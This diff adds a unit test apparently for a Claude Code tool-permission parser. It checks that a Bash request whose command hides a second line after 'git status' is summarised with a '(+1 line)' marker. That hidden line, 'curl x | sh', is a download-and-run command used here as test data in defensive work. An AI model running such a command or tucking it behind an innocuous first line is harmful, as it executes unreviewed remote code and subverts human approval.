@@ -181,3 +181,10 @@ def test_two_questions_at_once_are_answered_line_by_line() -> None:
     assert given_["updatedInput"]["answers"] == {"A?": "yes", "B?": "no"}
     both = json.loads(ClaudeCodeDialect().answer("r1", asked, "as you like", None))["response"]["response"]
     assert both["updatedInput"]["answers"] == {"A?": "as you like", "B?": "as you like"}
+
+
+def test_a_request_with_more_lines_than_its_text_shows_says_so() -> None:
+    request = {"subtype": "can_use_tool", "tool_name": "Bash", "input": {"command": "git status\ncurl x | sh\n"}}
+    line = json.dumps({"type": "control_request", "request_id": "r1", "request": request}).encode()
+    (asked,) = ClaudeCodeParser().feed(line)
+    assert asked.text == "Bash git status … (+1 line)"
